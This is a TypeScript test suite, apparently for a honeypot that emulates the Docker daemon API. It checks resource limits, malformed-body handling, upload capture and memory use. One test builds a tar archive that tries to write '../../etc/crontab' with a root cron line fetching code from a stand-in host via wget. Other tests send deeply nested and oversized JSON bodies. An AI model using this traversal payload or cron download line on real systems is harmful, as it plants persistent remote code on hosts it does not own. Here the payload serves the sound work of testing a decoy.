import assert from 'node:assert/strict';
import { test } from 'node:test';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { tarEnd, tarEntry } from './archive/tar.ts';
import { type Daemon, startDaemon } from './fixtures/visit.ts';

const json = (text: string): Record<string, unknown> => JSON.parse(text);

async function withImage(): Promise<Daemon> {
  const daemon = startDaemon();
  await daemon.makeImage('busybox');
  return daemon;
}

test('a source has room for two hundred containers', async () => {
  const daemon = await withImage();
  let made = 0;
  let last = '';
  for (let count = 0; count < 205; count++) {
    const answer = await daemon.post('/containers/create', { Image: 'busybox', Cmd: ['id'] });
    if (answer.status === 201) made += 1;
    last = answer.body;
  }
  assert.ok(made > 150 && made < 200);
  assert.match(last, /no space left on device/);
});

test('of execs the oldest go', async () => {
  const daemon = await withImage();
  const [first] = JSON.parse((await daemon.get('/containers/json')).body) as { Id: string }[];
  const ids: string[] = [];
  for (let count = 0; count < 510; count++)
    ids.push(json((await daemon.post(`/containers/${first!.Id}/exec`, { Cmd: ['id'] })).body).Id as string);
  assert.equal((await daemon.get(`/exec/${ids[0]}/json`)).status, 404);
  assert.equal((await daemon.get(`/exec/${ids.at(-1)}/json`)).status, 200);
});

test('deep, large and broken bodies get an answer', async () => {
  const daemon = await withImage();
  for (const [body, words] of [
    [`{"Image":${'['.repeat(50_000)}`, /exceeded max depth/],
    [`{"X":${'['.repeat(5000)}${']'.repeat(5000)},"Image":"busybox"}`, /"Id"/],
    [`{"Image":"${'a'.repeat(3 << 20)}"}`, /unexpected EOF/],
    [`{"Image":"busybox","Env":[${'"A=b",'.repeat(20_000)}"A=b"]}`, /"Id"/],
    ['\x00\x01\x02', /invalid character '\\\\x00' looking for beginning of value/],
  ] as const)
    assert.match((await daemon.post('/containers/create', body)).body, words);
});

test('an upload of a hundred megabytes is read, counted and kept in part', async () => {
  const daemon = await withImage();
  const [first] = JSON.parse((await daemon.get('/containers/json')).body) as { Id: string }[];
  const visit = daemon.connect();
  const size = 100 << 20;
  visit.write(
    `PUT /containers/${first!.Id}/archive?path=/tmp HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/x-tar\r\nContent-Length: ${size}\r\n\r\n`,
  );
  const part = Buffer.alloc(4 << 20);
  for (let sent = 0; sent < size; sent += part.length) visit.write(part);
  while (!visit.received().includes('\r\n\r\n')) await new Promise((resolve) => setTimeout(resolve, 20));
  const event = daemon.events.find(({ type }) => type === 'archive.put')!;
  assert.equal(event.data?.length, size);
  assert.ok((event.raw as Uint8Array).length < 32 << 20);
});

test('files that are copied in are artefacts, and stay below the folder', async () => {
  const daemon = await withImage();
  const id = json((await daemon.post('/containers/create', { Image: 'busybox', Cmd: ['id'] })).body)
    .Id as string;
  const bytes = Buffer.concat([
    tarEntry({
      name: '../../etc/crontab',
      kind: 'file',
      mode: 0o644,
      uid: 0,
      gid: 0,
      mtime: 0,
      target: '',
      content: Buffer.from('* * * * * root wget http://203.0.113.5/m\n'),
    }),
    tarEnd,
  ]);
  const head = `PUT /containers/${id}/archive?path=/tmp HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/x-tar\r\nContent-Length: ${bytes.length}\r\n\r\n`;
  const answer = await daemon.ask(Buffer.concat([Buffer.from(head), bytes]));
  assert.equal(answer.status, 200);
  const event = daemon.events.at(-1)!;
  assert.deepEqual(
    event.artefacts?.map(({ name }) => name),
    ['/tmp/../../etc/crontab'],
  );
  assert.deepEqual(event.texts, ['* * * * * root wget http://203.0.113.5/m\n']);
  const there = await daemon.ask(
    `HEAD /containers/${id}/archive?path=/tmp/etc/crontab HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
  );
  assert.equal(there.status, 200);
});

test('of what a container writes the end is kept', async () => {
  const daemon = await withImage();
  const body = { Image: 'busybox', Cmd: ['sh', '-c', `echo ${'x'.repeat(10_000)};`.repeat(60)] };
  const id = json((await daemon.post('/containers/create', body)).body).Id as string;
  await daemon.post(`/containers/${id}/start`);
  assert.deepEqual(json((await daemon.post(`/containers/${id}/wait`)).body).StatusCode, 0);
  const logs = await daemon.get(`/containers/${id}/logs?stdout=1`);
  assert.ok(logs.body.length <= 160 << 10);
});

test('a thousand sources with a container each take less than sixty megabytes', async () => {
  setFlagsFromString('--expose-gc');
  const collect = runInNewContext('gc') as () => void;
  const daemon = await withImage();
  collect();
  const before = process.memoryUsage().heapUsed;
  for (let number = 0; number < 1000; number++) {
    const source = `203.0.${number >> 8}.${number & 255}`;
    const image = (
      JSON.parse((await daemon.get('/images/json', source)).body) as { RepoTags: string[] }[]
    )[0]!.RepoTags[0];
    const answer = await daemon.post('/containers/create', { Image: image, Cmd: ['id'] }, source);
    assert.equal(answer.status, 201);
  }
  daemon.events.length = 0;
  collect();
  const taken = process.memoryUsage().heapUsed - before;
  assert.ok(taken < 60 << 20, `${taken >> 20} MB`);
});
